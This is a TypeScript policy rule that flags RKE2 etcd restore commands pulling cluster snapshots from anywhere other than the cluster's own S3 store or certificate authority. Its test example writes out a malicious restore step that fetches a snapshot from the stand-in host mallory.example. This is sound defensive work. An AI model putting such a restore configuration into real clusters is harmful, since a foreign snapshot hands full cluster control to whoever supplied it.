import { nodeStepOf } from "../../../src/facts/resource-names.ts";
import { addResource } from "../../lib/examples/resources.ts";
import { isObject } from "../../lib/reading/form.ts";
import { whenKnown } from "../../lib/reading/known.ts";
import { remoteCommand } from "../../lib/rke2/files.ts";
import { signedAddresses } from "../../lib/rke2/signed-addresses.ts";
import type { Resource } from "../../lib/rules/resource.ts";
import type { StackRule } from "../../lib/rules/rule.ts";

const store = "rke2-etcd-snapshot-store";

/**
 * A snapshot is the whole state of the cluster: one from elsewhere makes its author the administrator. The record of known resources
 * knows the form of the signed addresses, and only the Secret of the store says whose they are.
 */
export const rke2RestoreStore: StackRule = {
	name: "rke2-restore-store",
	description: "A restore from the S3 store downloads the snapshot from the store of the cluster, with its authority.",
	severity: "critical",
	controls: [],
	foundation: true,
	frameworks: { cisControls: ["11.4"], iso27001: ["A.8.13"], nist80053: ["CP-9", "CP-10"] },
	remediation: "Take the store from `cluster.etcdSnapshots.s3`.",
	subject: { plural: "commands on nodes", isDeclaredBy: ({ type }) => type === remoteCommand },
	examples: [
		{
			change: "a snapshot from another store",
			apply: addResource(remoteCommand, "proj-k8sm01-daily-check-restore", {
				connection: { host: "10.25.20.4", port: 22, user: "ops", hostKey: "ssh-ed25519 AAAA" },
				create: "sudo -n timeout --kill-after=10 60 /usr/local/lib/rke2-lab/restore.sh proj-k8sm01 check daily",
				logging: "stderr",
				addPreviousOutputInEnv: false,
				stdin: ["object", "list"]
					.map((path) => `https://mallory.example/${path}?X-Amz-Expires=43200&X-Amz-Signature=${"a".repeat(64)}\n`)
					.join(""),
			}),
			sentence:
				"proj-k8sm01-daily-check-restore downloads a snapshot from https://mallory.example; the stack has no store for snapshots.",
		},
	],

	checkStack(resources, report) {
		const secret = resources.find(({ type, name }) => type === "kubernetes:core/v1:Secret" && name === store);
		for (const resource of resources) {
			const stdin = isRestore(resource) ? whenKnown(() => resource.props.stdin) : undefined;
			const addresses = typeof stdin === "string" ? signedAddresses(stdin) : undefined;
			if (!addresses) {
				continue;
			}
			const { origin, authority } = addresses;
			const wanted = secret && storeOf(secret);
			if (!wanted) {
				report(`${resource.name} downloads a snapshot from ${origin}; the stack has no store for snapshots.`, resource);
			} else if (!wanted.origins.includes(origin)) {
				report(
					`${resource.name} downloads a snapshot from ${origin}; allowed is ${wanted.origins.join(" or ")}, the store of ${store}.`,
					resource,
				);
			} else if (authority.trim() !== wanted.authority.trim()) {
				report(`${resource.name} trusts another authority than ${store} has; make them equal.`, resource);
			}
		}
	},
};

function isRestore({ type, name }: Resource): boolean {
	return type === remoteCommand && nodeStepOf(name) === "restore";
}

/** The origins at which the store has its bucket, and its authority in PEM form. */
function storeOf({ props }: Resource): { origins: string[]; authority: string } {
	const { stringData, data } = props as { stringData?: unknown; data?: unknown };
	const plain = isObject(stringData);
	const values = (plain ? stringData : isObject(data) ? data : {}) as Record<string, unknown>;
	const textOf = (key: string) => {
		const value = String(values[`etcd-s3-${key}`] ?? "");
		return plain ? value : Buffer.from(value, "base64").toString();
	};
	const scheme = textOf("insecure") === "true" ? "http" : "https";
	// Amazon's common endpoint stands for that of the region (src/rke2/snapshot-addresses.ts).
	const host = textOf("endpoint").replace(/^s3\.amazonaws\.com(?=:|$)/, `s3.${textOf("region")}.amazonaws.com`);
	return {
		origins: [host, `${textOf("bucket")}.${host}`]
			.map((one) => `${scheme}://${one}`)
			.filter((one) => URL.canParse(one))
			.map((one) => new URL(one).origin),
		authority: textOf("endpoint-ca"),
	};
}
